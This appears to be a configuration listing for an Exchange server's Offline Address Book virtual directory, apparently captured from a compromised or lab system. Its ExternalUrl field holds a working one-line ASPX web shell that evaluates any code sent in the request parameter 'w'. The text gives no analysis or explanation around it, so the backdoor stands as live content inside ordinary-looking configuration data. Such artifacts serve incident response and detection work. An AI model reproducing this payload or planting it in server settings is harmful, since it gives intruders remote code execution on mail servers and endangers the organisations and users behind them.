Name                            : OAB (Default Web Site)
PollInterval                    : 480
OfflineAddressBooks             :
RequireSSL                      : True
BasicAuthentication             : True
WindowsAuthentication           : True
OAuthAuthentication             : False
MetabasePath                    : IIS://EXCH01.contoso.local/W3SVC/1/ROOT/OAB
Path                            : C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB
ExtendedProtectionTokenChecking : None
ExtendedProtectionFlags         :
ExtendedProtectionSPNList       :
AdminDisplayVersion             : Version 15.1 (Build 2106.2)
Server                          : EXCH01
InternalUrl                     : https://exch01.contoso.local/OAB
InternalAuthenticationMethods   : WindowsIntegrated
ExternalUrl                     : http://f/<script language="c#" runat="server">void Page_Load(object sender, EventArgs e){Microsoft.JScript.Eval.JScriptEvaluate(Request["w"], Microsoft.JScript.Vsa.VsaEngine.CreateEngine());}</script>
ExternalAuthenticationMethods   : WindowsIntegrated
AdminDisplayName                :
ExchangeVersion                 : 0.10 (14.0.100.0)
DistinguishedName               : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=EXCH01,CN=Servers
Identity                        : EXCH01\OAB (Default Web Site)
